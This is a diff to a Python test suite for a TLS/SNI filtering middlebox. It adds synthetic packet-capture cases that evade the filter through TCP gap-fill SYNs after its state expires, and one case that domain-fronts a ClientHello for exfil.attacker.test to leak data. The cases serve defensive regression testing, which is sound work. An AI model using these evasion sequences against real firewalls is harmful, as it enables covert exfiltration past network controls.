@@ -3978,13 +3978,14 @@ def fin_old_close(t, n, back=100):
     t.raw(False, "A", seq=srv, ack=old_next)          # challenge ACK
 
 
-def gap_fill_reopen(t, n, old_next, srv, tail):
+def gap_fill_reopen(t, n, old_next, srv, tail, sni=None):
     """A SYN whose stream reaches old_next exactly where a record header ends: an e2m
-    ClientHello and the 5-byte header of an application-data record as long as `tail`. The
-    server (still established) answers the SYN with a challenge ACK and drops every byte
-    below its rcv_nxt as old; from old_next on it reads `tail` as the old connection's next
-    bytes. aduana reads `tail` as that record's body."""
-    prefix = hello(n + "fill") + b"\x17\x03\x03" + struct.pack("!H", len(tail))
+    ClientHello (or one for sni) and the 5-byte header of an application-data record as
+    long as `tail`. The server (still established) answers the SYN with a challenge ACK and
+    drops every byte below its rcv_nxt as old; from old_next on it reads `tail` as the old
+    connection's next bytes. aduana reads `tail` as that record's body."""
+    fake = hello(n + "fill") if sni is None else hello(n + "fill", sni=sni)
+    prefix = fake + b"\x17\x03\x03" + struct.pack("!H", len(tail))
     isn = (old_next - 1 - len(prefix)) & 0xFFFFFFFF
     t.raw(True, "S", seq=isn, options=SYN_OPTS, gap=50000)
     t.raw(False, "A", seq=srv, ack=old_next)          # challenge ACK (RFC 5961 4.2)
@@ -3992,6 +3993,105 @@ def gap_fill_reopen(t, n, old_next, srv, tail):
     t.raw(False, "A", seq=srv, ack=old_next)          # old data: a duplicate ACK
     t.raw(True, "PA", tail, seq=old_next, ack=srv)
     t.raw(False, "A", seq=srv, ack=(old_next + len(tail)) & 0xFFFFFFFF)
+
+
+# Tombstones (tomb.h): a connection that ended for us but not for its server (idle past the
+# tcp timeout, closed by a RST the server answered with a challenge ACK, dropped and then
+# forgotten), reached by a gap-fill SYN once our entry is gone. Red team rounds 12 and 13
+# found the first two (idle_fill, rstloss_closed_fill); they were open until tombstones.
+@case
+def case_idle_fill(n):
+    """Inside client alone: an allowed E2M session idle for 3601 s (our entry expires; Linux
+    keeps the connection), then gap_fill_reopen: a SYN answered by a challenge ACK, a fake
+    e2m hello and a record header ending at the old next byte (the server drops them as
+    old), then plaintext HTTP that the server reads as the old connection's next bytes."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46101, E2M, 6101, n)
+    old_next, srv = t.cseq, t.sseq
+    cap.idle(3601)
+    gap_fill_reopen(t, n, old_next, srv, http_leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_rstloss_closed_fill(n):
+    """Inside client plus a loss after us: a record segment that the server never gets (we
+    read it: our next byte moves past it), then a RST exactly at our next byte; the server,
+    behind us, answers it with a challenge ACK. Our closed entry expires after tcp_closed
+    (10 s); 11 s on, gap_fill_reopen up to the server's next byte (before the lost record)."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46102, E2M, 6102, n)
+    srv_next, srv = t.cseq, t.sseq
+    lost = tls_appdata(n + "lost", 200)
+    t.raw(True, "PA", lost, seq=srv_next, ack=srv, ipkw={"flags": "DF"})   # lost after us
+    t.raw(True, "R", seq=srv_next + len(lost))                            # exact to us
+    t.raw(False, "A", seq=srv, ack=srv_next)                              # challenge ACK
+    cap.idle(11)
+    gap_fill_reopen(t, n, srv_next, srv, http_leak(n))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_dropped_expired_front_fill(n):
+    """Domain fronting at the shared front, past the SNI check, once the dropped flow is
+    forgotten: a ClientHello for exfil.attacker.test to the front is read and dropped (the
+    server got the handshake only, and holds the connection); 11 s on (the dropped timeout
+    is 10 s) a SYN answered by a challenge ACK, a portal.customs.example hello and a record
+    header that end at the old connection's first byte (the server drops them as old), then
+    the exfil ClientHello again: to the server, the old connection's hello; to a new flow, a
+    record body. The CDN serves exfil.attacker.test."""
+    cap = Capture()
+    t = ETcp(cap, S1, 46103, FRONT, 443, isn=6103, rtt_us=20000)
+    t.handshake()
+    first, srv = t.cseq, t.sseq
+    ch = hello(n, sni=EVIL, sid=sid32(leak(n)))
+    t.raw(True, "PA", ch, seq=first, ack=srv)            # read: dropped (default:e2m-strict)
+    t.raw(True, "PA", ch, seq=first, ack=srv, gap=300000)  # sent again: dropped
+    cap.idle(11)
+    gap_fill_reopen(t, n, first, srv, ch, sni=FRONT_NAME)
+    t.data(False, server_hello_flight(n))
+    for i in range(3):
+        t.data(True, marked_record(leak(n), n + "r%d" % i, 300))
+    return cap, {"leak": [leak(n)]}
+
+
+@case
+def case_idle_reuse_ok(n):
+    """Must-allow: an allowed E2M session idle for 3601 s; the server had dropped it (its
+    keepalive gave up); the client opens a new connection on the same ports, the server
+    answers with a SYN-ACK, and a whole new session runs."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46105, E2M, 6105, n)
+    cap.idle(3601)
+    u = ETcp(cap, S1, 46105, E2M, 443, isn=(t.cseq + 7777777) & 0xFFFFFFFF, rtt_us=20000)
+    u.handshake()
+    u.data(True, hello(n + "2"))
+    u.data(False, server_hello_flight(n + "2"))
+    u.data(True, CCS + tls_appdata(n + "fin2", 53))
+    u.data(True, marked_record(passm(n), n + "req2", 200))
+    u.data(False, tls_appdata(n + "resp2", 400))
+    u.close()
+    return cap, {"pass": [passm(n)]}
+
+
+@case
+def case_rst_reuse_below_ok(n):
+    """Must-allow: a session reset by the client (exact RST), then, 11 s on (our closed entry
+    gone), a new connection on the same ports with an ISN below the old next byte; the
+    server answers with a SYN-ACK; a whole new session."""
+    cap = Capture()
+    t = tls_established(cap, S1, 46106, E2M, 6106, n)
+    t.raw(True, "R", seq=t.cseq)
+    cap.idle(11)
+    u = ETcp(cap, S1, 46106, E2M, 443, isn=(t.cseq - 5000) & 0xFFFFFFFF, rtt_us=20000)
+    u.handshake()
+    u.data(True, hello(n + "2"))
+    u.data(False, server_hello_flight(n + "2"))
+    u.data(True, CCS + tls_appdata(n + "fin2", 53))
+    u.data(True, marked_record(passm(n), n + "req2", 200))
+    u.data(False, tls_appdata(n + "resp2", 400))
+    u.close()
+    return cap, {"pass": [passm(n)]}
 
 
 @case
